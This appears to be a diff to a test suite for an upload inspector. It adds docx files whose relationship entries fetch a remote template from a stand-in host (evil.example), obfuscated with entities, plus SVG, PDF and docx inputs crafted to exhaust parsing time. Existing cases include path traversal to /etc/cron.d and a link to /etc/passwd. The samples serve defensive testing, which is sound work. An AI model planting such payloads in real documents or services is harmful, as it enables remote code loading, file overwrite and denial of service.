@@ -144,6 +144,8 @@ describe('what is refused', () => {
     ['a path out of the archive', 'x.docx', () => docx([{ name: '../../etc/cron.d/x', data: Buffer.from('x') }]), 'files.archive_refused'],
     ['a link in the archive', 'x.docx', () => docx([{ name: 'word/link', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]), 'files.archive_refused'],
     ['a thousand and one entries', 'x.docx', () => docx(Array.from({ length: 1001 }, (_, i) => ({ name: `word/${i}.xml`, data: Buffer.from('x') }))), 'files.archive_refused'],
+    ['a template fetched from elsewhere, behind a sign that ends no tag', 'x.docx', () => docx([{ name: 'word/_rels/document.xml.rels', data: Buffer.from('<Relationships><Relationship Id=">" TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm"/></Relationships>') }]), 'files.archive_refused'],
+    ['a template fetched from elsewhere, spelled in numbers', 'x.docx', () => docx([{ name: 'word/_rels/document.xml.rels', data: Buffer.from('<Relationships><Relationship TargetMode="&#69;xternal" Type="http://x/attached&#x54;emplate" Target="http://evil.example/x.dotm"/></Relationships>') }]), 'files.archive_refused'],
     ['a macro', 'x.docx', () => docx([{ name: 'word/vbaProject.bin', data: Buffer.from('x') }]), 'files.'],
     ['a zip called a document', 'x.docx', () => zip([{ name: 'readme.txt', data: Buffer.from('x') }]), 'files.'],
     ['a program called a film', 'x.mp4', () => Buffer.concat([Buffer.from('MZ'), randomBytes(300)]), 'files.'],
@@ -157,12 +159,25 @@ describe('what is refused', () => {
     expect((await rows()).length).toBe(before);
   });
 
+  it.each<[string, string, () => Buffer]>([
+    ['comments after a picture', 'x.svg', () => Buffer.from(`<svg></svg>${'<!---->'.repeat(60)}x`)],
+    ['a picture of document types', 'x.svg', () => Buffer.from(`<svg>${'<!DOCTYPE'.repeat(19_000)}${'x'.repeat(700_000)}</svg>`)],
+    ['an address of blanks', 'x.svg', () => Buffer.from(`<svg style="fill:url(${' '.repeat(300_000)})"></svg>`)],
+    ['a filter of blanks', 'x.pdf', () => Buffer.from(`%PDF-1.4\n1 0 obj << /First 1 /N 1 /Filter${' '.repeat(300_000)}x >>stream\nendstream\n%%EOF`)],
+    ['relationships without an end', 'x.docx', () => docx([{ name: 'word/_rels/document.xml.rels', method: 0, data: Buffer.from(`${'<Relationship '.repeat(200_000)}<`) }, { name: 'word/vbaProject.bin', data: Buffer.from('x') }])],
+  ])('%s, before it costs anything (SEC-INJ-03)', async (_, name, make) => {
+    const bytes = make();
+    const from = performance.now();
+    await expect(inspectUpload({ name, buffer: bytes })).rejects.toBeInstanceOf(FileRefused);
+    expect(performance.now() - from).toBeLessThan(2000);
+  });
+
   it('a type that browsers run, whatever the content', async () => {
     expect((await send('x.txt', 'hello', { mime: 'text/html' })).body.code).toBe('files.type_refused');
   });
 
   it('too large, with 413, and nothing of it stays on disk (SEC-FIL-06)', async () => {
-    expect(await send('long.txt', Buffer.alloc(2_200_000, 97))).toMatchObject({ status: 413, body: { code: 'files.too_large' } });
+    expect(await send('long.txt', Buffer.alloc(8_400_000, 97))).toMatchObject({ status: 413, body: { code: 'files.too_large' } });
     // Other suites of this machine use the same folder for a moment.
     await expect.poll(() => readdir(join(tmpdir(), 'encrier-uploads')), { timeout: 5000 }).toEqual([]);
   });
